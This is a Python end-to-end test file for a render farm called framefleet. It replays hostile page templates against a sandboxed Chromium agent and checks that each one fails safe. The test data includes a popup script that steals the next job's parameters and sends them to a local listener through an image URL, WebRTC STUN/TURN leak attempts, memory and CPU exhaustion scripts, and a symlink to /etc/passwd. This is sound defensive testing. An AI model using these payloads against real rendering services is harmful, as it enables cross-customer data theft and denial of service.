"""The page attacks of issue 11, replayed against a coordinator and real agent processes: each
fails safe, fails once (no retries for the template's own doing), and the agent keeps serving."""

from __future__ import annotations

import os
import pwd
import shutil
import subprocess
import sys
import sysconfig
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from framefleet import AsyncClient, JobFailed, template_job
from framefleet.v1 import framefleet_pb2 as pb
from tests.farm_processes import FarmProcesses, framefleet
from tests.loopback_listener import Listener
from tests.process_tree import descendants
from tests.video import decode, is_colour, path_of

pytestmark = pytest.mark.e2e

ROOT = Path(__file__).resolve().parent.parent
GREEN = (0, 160, 0)
SANDBOX_USER = "framefleet-test"  # scripts/install_system_deps.sh creates it
SYSTEM_BIN = ("/usr/bin", "/usr/local/bin")


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def farm(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FarmProcesses]:
    """A coordinator and one agent with one slot, so every job follows the previous one on the
    same browser: what one job leaves behind, the next one would meet."""
    root = tmp_path_factory.mktemp("farm")
    farm = FarmProcesses(root)
    try:
        farm.start_coordinator(
            f"sqlite:///{root}/jobs.db", root / "out", "--heartbeat-interval", "1"
        )
        farm.start_agent("agent", "--slots", "1", "--page-memory-mb", "400", "--frame-timeout", "3")
        yield farm
    finally:
        farm.close()


def write(folder: Path, html: str, name: str = "t.html") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(f"<!doctype html><html><body style='margin:0'>{html}</body></html>")
    return folder / name


def victim(folder: Path) -> Path:
    return write(
        folder,
        "<script>framefleet.onParams(p => { document.body.style.background = p.color; });</script>",
    )


async def run(
    farm: FarmProcesses, template: Path, params: dict[str, object], frames: int = 6
) -> pb.Job:
    spec = template_job(template, params, width=64, height=64, fps=10, frames=frames)
    async with AsyncClient(farm.address) as client:
        try:
            return await client.wait((await client.submit(spec)).id)
        except JobFailed as failed:
            return failed.job


async def test_a_popup_cannot_spy_on_or_draw_into_the_next_job(
    farm: FarmProcesses, listener: Listener, tmp_path: Path
) -> None:
    """The attack: a popup that outlives its job, reads the next customer's parameters through
    ``opener``, sends them out, and draws a banner into their video."""
    leak = f"http://127.0.0.1:{listener.port('http')}"
    spy = write(
        tmp_path / "spy",
        f"""<script>
        const spy = window.open('', 'spy');
        window.open('{leak}/window-open');
        if (spy) spy.eval(`setInterval(() => {{ try {{
            const p = JSON.stringify(opener.framefleet.params);
            new Image().src = '{leak}/leak?' + encodeURIComponent(p);
            opener.document.body.insertAdjacentHTML('beforeend',
              '<div style="position:fixed;inset:0;background:rgb(255,0,255)"></div>');
          }} catch (e) {{}} }}, 20)`);
        framefleet.onSeek(() => new Promise(done => setTimeout(done, 50)));
        </script>""",
    )
    attack = await run(farm, spy, {})
    assert attack.state == pb.JOB_STATE_FAILED
    assert (attack.error_class, attack.attempt) == ("TEMPLATE_FORBIDDEN", 1), attack
    for n in range(2):  # the next customers, on the same agent and browser
        job = await run(farm, victim(tmp_path / f"v{n}"), {"color": "rgb(0,160,0)", "secret": n})
        assert job.state == pb.JOB_STATE_SUCCEEDED, job
        for frame in decode(path_of(job.output_url)):
            assert is_colour(frame[32, 32], GREEN) and is_colour(frame[2, 2], GREEN)
    assert listener.hits == [], "the page reached a local server"


async def test_webrtc_sends_no_packet(
    farm: FarmProcesses, listener: Listener, tmp_path: Path
) -> None:
    caller = write(
        tmp_path,
        f"""<script>
        const pc = new RTCPeerConnection({{iceServers: [
          {{urls: 'stun:127.0.0.1:{listener.port("udp")}'}},
          {{urls: 'turn:127.0.0.1:{listener.port("tcp")}?transport=tcp', username: 'u',
            credential: 'c'}}]}});
        pc.createDataChannel('leak');
        pc.createOffer().then(offer => pc.setLocalDescription(offer));
        framefleet.onSeek(() => new Promise(done => setTimeout(done, 200)));
        </script>""",
    )
    job = await run(farm, caller, {}, frames=10)  # two seconds of ICE gathering
    assert job.state == pb.JOB_STATE_SUCCEEDED, job
    assert listener.udp_packets() == [], "a STUN packet reached the UDP socket"
    assert listener.tcp_connections() == 0, "WebRTC reached a TURN server over TCP"


async def test_arraybuffers_past_the_memory_limit_fail_once_and_the_agent_goes_on(
    farm: FarmProcesses, tmp_path: Path
) -> None:
    hog = write(
        tmp_path / "hog",
        "<script>const kept = []; framefleet.onSeek(() => {"
        " for (let i = 0; i < 8; i++) kept.push(new Uint8Array(64 << 20).fill(7)); });</script>",
    )
    agent = farm.processes[-1]
    job = await run(farm, hog, {}, frames=6)  # 3 GiB of ArrayBuffers if nothing stopped it
    assert job.state == pb.JOB_STATE_FAILED
    assert (job.error_class, job.attempt) == ("TEMPLATE_RESOURCE_LIMIT", 1), job
    assert "past the page memory limit of 400 MiB" in job.error_message
    after = await run(farm, victim(tmp_path / "next"), {"color": "rgb(0,160,0)"})
    assert after.state == pb.JOB_STATE_SUCCEEDED, after
    assert is_colour(decode(path_of(after.output_url))[-1][32, 32], GREEN)
    assert agent.alive()


async def test_an_endless_loop_in_a_frame_fails_once(farm: FarmProcesses, tmp_path: Path) -> None:
    loop = write(tmp_path, "<script>framefleet.onSeek(s => { if (s > 0.2) for (;;) {} });</script>")
    job = await run(farm, loop, {})
    assert job.state == pb.JOB_STATE_FAILED
    assert (job.error_class, job.attempt) == ("TEMPLATE_FRAME_TIMEOUT", 1), job


async def test_a_navigation_fails_once(
    farm: FarmProcesses, listener: Listener, tmp_path: Path
) -> None:
    away = write(
        tmp_path, "<script>framefleet.onSeek(() => { location.href = 'elsewhere.html'; });</script>"
    )
    job = await run(farm, away, {})
    assert (job.state, job.error_class, job.attempt) == (
        pb.JOB_STATE_FAILED,
        "TEMPLATE_FORBIDDEN",
        1,
    ), job


@pytest.mark.parametrize(
    "throws",
    [
        "framefleet.onSeek(() => { throw new Error('x'.repeat(8 << 20)); });",  # in a seek
        "setInterval(() => { throw new Error('y'.repeat(1 << 20)); }, 0);",  # uncaught, often
    ],
)
async def test_a_huge_throw_fails_once_with_its_first_line_cut_short(
    farm: FarmProcesses, tmp_path: Path, throws: str
) -> None:
    """The template writes its error message: what the job keeps is bounded, and the agent
    goes on serving."""
    job = await run(farm, write(tmp_path, f"<script>{throws}</script>"), {})
    assert (job.state, job.error_class, job.attempt) == (
        pb.JOB_STATE_FAILED,
        "TEMPLATE_SCRIPT_ERROR",
        1,
    ), job.error_message[:200]
    assert job.error_message.startswith("the template threw: ")
    assert len(job.error_message) < 600
    after = await run(farm, victim(tmp_path / "after"), {"color": "rgb(0, 160, 0)"})
    assert after.state == pb.JOB_STATE_SUCCEEDED, after


def test_a_symlink_out_of_the_template_folder_is_refused(
    farm: FarmProcesses, tmp_path: Path
) -> None:
    template = victim(tmp_path)
    (tmp_path / "creds.json").symlink_to("/etc/passwd")
    (tmp_path / "inside.json").symlink_to(tmp_path / "t.html")  # a link inside is fine
    result = subprocess.run(
        framefleet("submit", str(template), "--coordinator", farm.address, "--json"),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 2, result.stderr
    assert "INVALID_JOB" in result.stderr and "creds.json" in result.stderr
    assert "/etc/passwd" in result.stderr and "root:" not in result.stderr
    (tmp_path / "creds.json").unlink()
    spec = template_job(template)
    assert spec.template.assets["inside.json"] == template.read_bytes()


# --- Chromium's sandbox, with the agent as an unprivileged user --------------------------------


def user_python(user: str) -> tuple[str, dict[str, str]]:
    """An interpreter ``user`` may run with this checkout importable: ours, or the system's
    of the same version with our site-packages on the path (ours may sit under /root)."""
    probe = ["-c", "import agent, farm, framefleet"]
    paths = [sysconfig.get_paths()["purelib"], str(ROOT), str(ROOT / "clients" / "python")]
    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    path = {"PYTHONPATH": os.pathsep.join(paths)}
    candidates: list[tuple[str, dict[str, str]]] = [(sys.executable, {})] + [
        (f"{d}/python{version}", path) for d in SYSTEM_BIN
    ]
    for python, env in candidates:
        try:
            probed = subprocess.run(
                [python, *probe], user=user, env={**os.environ, **env}, capture_output=True
            )
        except OSError:
            continue  # not executable by this user
        if probed.returncode == 0:
            return python, env
    pytest.skip(f"no Python that {user} can run with this checkout")


def renderer_status(pid: int) -> dict[str, str]:
    """/proc/PID/status of a Chromium renderer (empty for any other process)."""
    try:
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
        # Chromium rewrites its command line as one string: look for the words in it.
        cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return {}
    if b"--type=renderer" not in cmdline:
        return {}
    status = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
    status["no-sandbox"] = str(b"--no-sandbox" in cmdline)
    try:
        for namespace in ("net", "user"):
            status[namespace] = os.readlink(f"/proc/{pid}/ns/{namespace}")
    except OSError:
        return {}  # it exited meanwhile
    return status


def readable_by(user: str, farm: FarmProcesses, folder: Path) -> list[str]:
    """The farm's TLS options for an agent, with copies of its files that ``user`` may read
    (the originals sit in root's own temporary folder)."""
    if farm.trust is None:
        return []
    entry = pwd.getpwnam(user)
    args = farm.trust.agent_args("sandboxed")
    for n, arg in enumerate(args):
        if arg.startswith("/"):
            copy = folder / f"tls-{n}-{Path(arg).name}"
            shutil.copyfile(arg, copy)
            os.chown(copy, entry.pw_uid, entry.pw_gid)
            copy.chmod(0o600)
            args[n] = str(copy)
    return args


async def test_the_agent_as_a_non_root_user_renders_with_chromiums_sandbox(
    tmp_path: Path,
) -> None:
    if os.geteuid() != 0:
        user = pwd.getpwuid(os.geteuid()).pw_name  # the suite itself is unprivileged
    else:
        try:
            user = pwd.getpwnam(SANDBOX_USER).pw_name
        except KeyError:
            pytest.skip(f"no user {SANDBOX_USER}: run scripts/install_system_deps.sh as root")
    python, env = user_python(user)
    entry = pwd.getpwnam(user)
    out = Path(tempfile.mkdtemp(prefix="framefleet-sandbox-"))  # tmp_path is root's alone
    os.chown(out, entry.pw_uid, entry.pw_gid)
    farm = FarmProcesses(tmp_path)
    try:
        farm.start_coordinator(f"sqlite:///{tmp_path}/jobs.db", out)
        command = [python, "-m", "framefleet", "agent", "--coordinator", farm.agent_address]
        agent = farm._spawn(
            "agent",
            [*command, "--slots", "1", *readable_by(user, farm, out)],
            subprocess.DEVNULL,
            {**env, "HOME": str(out)},
            user=user,
        )
        spec = template_job(
            victim(tmp_path / "t"), {"color": "rgb(0,160,0)"}, width=64, height=64, fps=10,
            frames=300,
        )  # fmt: skip
        statuses: list[dict[str, str]] = []
        async with AsyncClient(farm.address) as client:
            job = await client.submit(spec)
            async for update in client.watch(job.id):
                if update.job.frames_done > 5 and not statuses:
                    statuses = [
                        s for p in descendants(agent.popen.pid) if (s := renderer_status(p))
                    ]
            done = await client.get(job.id)
        assert done.state == pb.JOB_STATE_SUCCEEDED, f"{done}\n{farm.logs()}"
        frames = decode(path_of(done.output_url))
    finally:
        farm.close()
        shutil.rmtree(out, ignore_errors=True)
    assert all(is_colour(frame[32, 32], GREEN) for frame in frames)
    assert statuses, "no renderer seen while rendering"
    for status in statuses:
        assert status["no-sandbox"] == "False"
        assert status["Uid"].split()[0] == str(entry.pw_uid)
        assert status["Seccomp"].strip() == "2", "the renderer is not under seccomp-bpf"
        assert len(status["NSpid"].split()) >= 2, "the renderer is not in its own PID namespace"
        for namespace in ("net", "user"):
            assert status[namespace] != os.readlink(f"/proc/self/ns/{namespace}"), namespace
